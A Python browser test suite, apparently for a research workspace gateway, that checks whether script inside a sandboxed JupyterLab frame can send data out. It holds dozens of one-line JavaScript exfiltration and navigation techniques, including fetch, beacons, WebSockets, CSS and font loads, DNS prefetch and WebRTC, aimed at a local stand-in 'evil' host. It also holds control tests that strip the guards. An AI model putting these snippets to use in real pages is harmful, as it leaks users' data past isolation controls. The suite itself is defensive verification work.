"""A researcher's browser: every way in which a page in the Lab could send data elsewhere, tried in Chromium.

"Evil" is another origin that notes every request it gets, a UDP port that notes every packet, and names that would
have to be looked up, as the browser's own network log shows them. Each way is tried twice: with everything as it is
(nothing may be seen), and with the guards taken away (it must be seen, or the trial proves nothing; the ways that
cannot be shown even then are listed as unproven and not counted).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from aiohttp import web
from playwright.async_api import Error, Frame, Page

from tests.support.chromium import CHROMIUM_MISSING, plain_chromium
from tests.unit.gateway.portal import add_portal
from tests.unit.gateway.world import WORKSPACE, World, free_port, make_world

pytestmark = [pytest.mark.browser, CHROMIUM_MISSING, pytest.mark.timeout(240)]

MARK = "this page is the workspace's"

QUIET = {
    "fetch": "fetch(U)",
    "fetch-no-cors": "fetch(U, {mode: 'no-cors'})",
    "fetch-keepalive": "fetch(U, {keepalive: true, mode: 'no-cors'})",
    "fetch-later": "window.fetchLater && fetchLater(U, {activateAfter: 0})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', U); x.send()",
    "beacon": "navigator.sendBeacon(U, 'x')",
    "event-source": "new EventSource(U)",
    "websocket": "new WebSocket(U.replace('http', 'ws'))",
    "a-ping": "add('a', {href: '#', ping: U}).click()",
    "img": "add('img', {src: U})",
    "img-srcset": "add('img', {srcset: U + ' 1x'})",
    "input-image": "add('input', {type: 'image', src: U})",
    "css-url": "style('body{background:url(' + U + ')}')",
    "css-import": "style('@import url(' + U + ')')",
    "css-adopted": "const s = new CSSStyleSheet(); s.replaceSync('body{border-image:url(' + U + ')}');"
    " document.adoptedStyleSheets = [s]",
    "css-font": "style('@font-face{font-family:f;src:url(' + U + ')} body{font-family:f}'); document.body.append('x')",
    "font-face": "new FontFace('g', 'url(' + U + ')').load().catch(() => 0)",
    "svg-image": "svg('<image href=\"' + U + '\"/>')",
    "svg-fe-image": 'svg(\'<filter id="f"><feImage href="\' + U + \'"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/>\')',
    "link-stylesheet": "link('stylesheet')",
    "link-icon": "link('icon')",
    "link-manifest": "link('manifest')",
    "link-prefetch": "link('prefetch')",
    "link-preload": "link('preload', {as: 'image'})",
    "link-modulepreload": "link('modulepreload')",
    "iframe-src": "add('iframe', {src: U})",
    "iframe-srcdoc": "add('iframe', {srcdoc: '<img src=\"' + U + '\">'})",
    "iframe-blob": "add('iframe', {src: page('<img src=\"' + U + '\">')})",
    "iframe-blob-navigates": "add('iframe', {src: page('<meta http-equiv=refresh content=\"0;url=' + U + '\">')})",
    "iframe-form": "const f = add('iframe', {name: 'n'}); const g = add('form', {action: U, target: 'n'}); g.submit()",
    "iframe-about-blank": "const f = add('iframe', {}); f.contentWindow.location = U",
    "video": "add('video', {src: U, preload: 'auto'})",
    "video-poster": "add('video', {poster: U})",
    "audio": "add('audio', {src: U, preload: 'auto'})",
    "track": "const v = add('video', {}); const t = document.createElement('track'); t.default = true; t.src = U;"
    " v.append(t); t.track.mode = 'showing'",
    "object": "add('object', {data: U})",
    "embed": "add('embed', {src: U})",
    "worker-blob": "new Worker(script('fetch(\"' + U + '\", {mode: \"no-cors\"})'))",
    "worker-import": "new Worker(script('importScripts(\"' + U + '\")'))",
    "shared-worker": "new SharedWorker(script('fetch(\"' + U + '\", {mode: \"no-cors\"})'))",
    "script-src": "add('script', {src: U})",
    "dynamic-import": "import(U).catch(() => 0)",
    "blob-module": "import(script('fetch(\"' + U + '\", {mode: \"no-cors\"})')).catch(() => 0)",
    "speculation-prefetch": "rules({prefetch: [{source: 'list', urls: [U]}]})",
    "speculation-prerender": "rules({prerender: [{source: 'list', urls: [U]}]})",
    "window-open": "window.open(U)",
    "a-blank": "add('a', {href: U, target: '_blank'}).click()",
    "form-blank": "add('form', {action: U, target: '_blank'}).submit()",
    "a-noreferrer": "add('a', {href: U, target: '_blank', rel: 'noreferrer noopener'}).click()",
    "preconnect": "link('preconnect')",
    "webtransport": "new WebTransport(U.replace('http:', 'https:'))",
}
"""Ways that leave the page where it is."""

LEAVING = {
    "location": "location.href = U",
    "location-replace": "location.replace(U)",
    "navigation-api": "navigation.navigate(U)",
    "window-open-self": "window.open(U, '_self')",
    "window-open-top": "window.open(U, '_top')",
    "window-open-parent": "window.open(U, '_parent')",
    "top-location": "top.location = U",
    "parent-location": "parent.location = U",
    "meta-refresh": "add('meta', {httpEquiv: 'refresh', content: '0;url=' + U}, document.head)",
    "a-self": "add('a', {href: U}).click()",
    "a-download": "add('a', {href: U, download: 'x'}).click()",
    "a-top": "add('a', {href: U, target: '_top'}).click()",
    "form-self": "add('form', {action: U}).submit()",
    "form-top": "add('form', {action: U, target: '_top', method: 'post'}).submit()",
    "document-write": "document.open(); document.write('<meta http-equiv=refresh content=\"0;url=' + U + '\">');"
    " document.close()",
}
"""Ways that would take the page away: each gets a page of its own."""

LOOKED_UP = {
    "dns-prefetch": "link('dns-prefetch')",
    "rtc-stun": "rtc('stun:' + new URL(U).hostname + ':3478')",
    "rtc-turn": "rtc('turn:' + new URL(U).hostname + ':3478')",
    "rtc-turn-tcp": "rtc('turn:' + new URL(U).hostname + ':3478?transport=tcp')",
}
"""Ways that need only a name looked up: the name carries the data."""

UNPROVEN = {
    *("fetch-later", "webtransport", "link-manifest", "a-noreferrer", "track", "svg-fe-image", "link-icon"),
    *("speculation-prefetch", "speculation-prerender"),
}
"""Not always seen even without any guard (the browser wants a certificate, an installable page, or a quiet moment)."""

RESIDUE = {"rtc-ice"}
"""What no header of ours closes in Chromium 156: packets of WebRTC to a numeric address."""

WEBRTC_CLOSED = {"webrtc": {"ip_handling_policy": "disable_non_proxied_udp"}}
"""What the managed policy `WebRtcIPHandling` sets."""

HELPERS = """
const add = (tag, with_, where) => {
  const made = Object.assign(document.createElement(tag), with_); (where || document.body).append(made); return made; };
const style = (text) => add('style', {textContent: text}, document.head);
const svg = (inner) => { const d = add('div', {});
  d.innerHTML = '<svg xmlns="http://www.w3.org/2000/svg">' + inner + '</svg>'; };
const link = (rel, more) => add('link', {rel, href: U, ...more}, document.head);
const page = (html) => URL.createObjectURL(new Blob([html], {type: 'text/html'}));
const script = (text) => URL.createObjectURL(new Blob([text], {type: 'text/javascript'}));
const rules = (r) => add('script', {type: 'speculationrules', textContent: JSON.stringify(r)}, document.head);
const rtc = (urls) => { const p = new RTCPeerConnection({iceServers: [{urls, username: 'u', credential: 'c'}]});
  p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); window.keep = p; };
"""

ICE = """
const p = new RTCPeerConnection(); p.createDataChannel('x'); window.keep2 = p;
p.createOffer().then((o) => p.setLocalDescription(o)).then(() => p.setRemoteDescription({type: 'answer', sdp:
  'v=0\\r\\no=- 1 1 IN IP4 127.0.0.1\\r\\ns=-\\r\\nt=0 0\\r\\na=group:BUNDLE 0\\r\\n' +
  'm=application 9 UDP/DTLS/SCTP webrtc-datachannel\\r\\nc=IN IP4 0.0.0.0\\r\\na=ice-ufrag:stolendata\\r\\n' +
  'a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa\\r\\na=fingerprint:sha-256 ' + Array(32).fill('AA').join(':') + '\\r\\n' +
  'a=setup:active\\r\\na=mid:0\\r\\na=sctp-port:5000\\r\\n' +
  'a=candidate:1 1 udp 2130706431 127.0.0.1 PORT typ host\\r\\n'}))
"""


@dataclass
class Evil:
    """Notes everything that reaches it."""

    port: int
    udp_port: int
    seen: set[str] = field(default_factory=set)
    packets: list[bytes] = field(default_factory=list)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.seen.add("connection")
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError, TimeoutError):
            first = (await asyncio.wait_for(reader.readline(), 5)).decode("latin-1").split(" ")
            if len(first) > 1:
                self.seen.add(first[1].strip("/").partition("?")[0])
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n"
                         b"Cross-Origin-Resource-Policy: cross-origin\r\nConnection: close\r\n\r\n")  # fmt: skip
            await writer.drain()
        writer.close()


class _Packets(asyncio.DatagramProtocol):
    def __init__(self, evil: Evil) -> None:
        self._evil = evil

    def datagram_received(self, data: bytes, addr: object) -> None:
        self._evil.packets.append(data)


@contextlib.asynccontextmanager
async def evil_listener() -> AsyncIterator[Evil]:
    evil = Evil(free_port(), free_port())
    server = await asyncio.start_server(evil.serve, "127.0.0.1", evil.port)
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: _Packets(evil), local_addr=("127.0.0.1", evil.udp_port)
    )
    try:
        async with server:
            yield evil
    finally:
        transport.close()


async def blank_lab(request: web.BaseRequest) -> web.StreamResponse:
    """A workspace whose page is empty: the attacker's script is put into it by the test."""
    if request.path == "/lab":
        return web.Response(text=f"<!doctype html><title>Lab</title><body>{MARK}</body>", content_type="text/html")
    return web.json_response({})


async def lab_frame(page: Page, world: World) -> Frame:
    """Open the shell and wait for the Lab inside it."""
    await page.goto(world.origin(f"{WORKSPACE}.open") + "/")
    element = await page.wait_for_selector("iframe[title=JupyterLab]")
    frame = await element.content_frame() if element else None
    assert frame is not None
    await frame.wait_for_selector(f"text={MARK}")
    return frame


async def attempt(frame: Frame, address: str, code: str) -> None:
    """Run a way out in the frame; a page that is gone or a refusal by the browser is no failure of the trial."""
    with contextlib.suppress(Error):
        await frame.evaluate(f"() => {{ const U = {json.dumps(address)}; {HELPERS}; {code}; return 0; }}")


def without_guards(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """Take away the headers of both pages, the sandbox of the frame and the rule that pages belong in it."""
    monkeypatch.setattr("tre.gateway.app.OWN_HEADERS", {})
    monkeypatch.setattr(world.gateway.lab, "headers", lambda _place: {})
    monkeypatch.setattr(world.gateway.shell, "headers", lambda _place: {})
    script = world.gateway.shell._assets["shell.js"].decode()
    assert 'frame.setAttribute("sandbox"' in script
    bare = script.replace('frame.setAttribute("sandbox", "allow-scripts allow-same-origin");', "")
    bare = bare.replace('frame.setAttribute("allow", "");', "")
    monkeypatch.setitem(world.gateway.shell._assets, "shell.js", bare.encode())


async def try_quietly(world: World, evil: Evil, log: Path, **preferences: object) -> set[str]:
    """Try ways that leave the page where it is, then those that need a name looked up, then a packet."""
    rules = f"--host-resolver-rules=MAP *.evil.test 127.0.0.1:{evil.port}"
    async with plain_chromium(f"--log-net-log={log}", rules, **preferences) as context:
        page = await context.new_page()
        base = f"http://evil.localhost:{evil.port}"
        frame = await lab_frame(page, world)
        for name, code in QUIET.items():
            address = f"http://{name}.evil.test" if name == "preconnect" else base
            await attempt(frame, f"{address}/{name}", code)
            # the trial counts only while the page is the workspace's: a browser's error page has no guards
            assert MARK in await frame.evaluate("document.body.innerText"), name
        for name, code in LOOKED_UP.items():
            await attempt(frame, f"http://{name}.lookup.test/", code)
        await attempt(frame, base, ICE.replace("PORT", str(evil.udp_port)))
        await settle(page)
    text = log.read_text(errors="replace")
    seen = {name for name in QUIET if name in evil.seen}
    seen |= {name for name in LOOKED_UP if f"{name}.lookup.test" in text}
    seen |= {"preconnect"} if "preconnect.evil.test" in text else set()
    return seen | ({"rtc-ice"} if evil.packets else set())


async def try_leaving(world: World, evil: Evil) -> set[str]:
    """Try the ways that would take the page away, each from a fresh one."""
    async with plain_chromium() as context:
        for name, code in LEAVING.items():
            page = await context.new_page()
            frame = await lab_frame(page, world)
            await attempt(frame, f"http://evil.localhost:{evil.port}/{name}", code)
            for _ in range(8):
                if name not in evil.seen:
                    await settle(page, 50)
            await page.close()
    return {name for name in LEAVING if name in evil.seen}


async def settle(page: Page, milliseconds: int = 3000) -> None:
    """Give what the browser does by itself its time; there is no event for a request that never comes."""
    with contextlib.suppress(Error):
        await page.wait_for_timeout(milliseconds)


@contextlib.asynccontextmanager
async def scene(monkeypatch: pytest.MonkeyPatch | None = None) -> AsyncIterator[tuple[World, Evil]]:
    """A workspace and an evil listener; with a monkeypatch the guards are taken away."""
    async with make_world(upstream=blank_lab) as world, evil_listener() as evil:
        await add_portal(world)
        if monkeypatch is not None:
            without_guards(world, monkeypatch)
        yield world, evil


async def test_a_page_in_the_lab_reaches_nobody(tmp_path: Path) -> None:
    async with scene() as (world, evil):
        seen = await try_quietly(world, evil, tmp_path / "log.json")
    assert seen - RESIDUE == set()


@pytest.mark.soak
async def test_with_webrtc_closed_in_the_browser_nothing_is_left(tmp_path: Path) -> None:
    async with scene() as (world, evil):
        assert await try_quietly(world, evil, tmp_path / "log.json", **WEBRTC_CLOSED) == set()


async def test_a_page_in_the_lab_cannot_leave() -> None:
    async with scene() as (world, evil):
        assert await try_leaving(world, evil) == set()


async def test_the_control_without_guards_everything_is_seen(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with scene(monkeypatch) as (world, evil):
        seen = await try_quietly(world, evil, tmp_path / "log.json")
    assert {*QUIET, *LOOKED_UP, "rtc-ice"} - seen - UNPROVEN == set()


@pytest.mark.soak
async def test_the_control_without_guards_every_page_leaves(monkeypatch: pytest.MonkeyPatch) -> None:
    async with scene(monkeypatch) as (world, evil):
        assert await try_leaving(world, evil) == set(LEAVING)
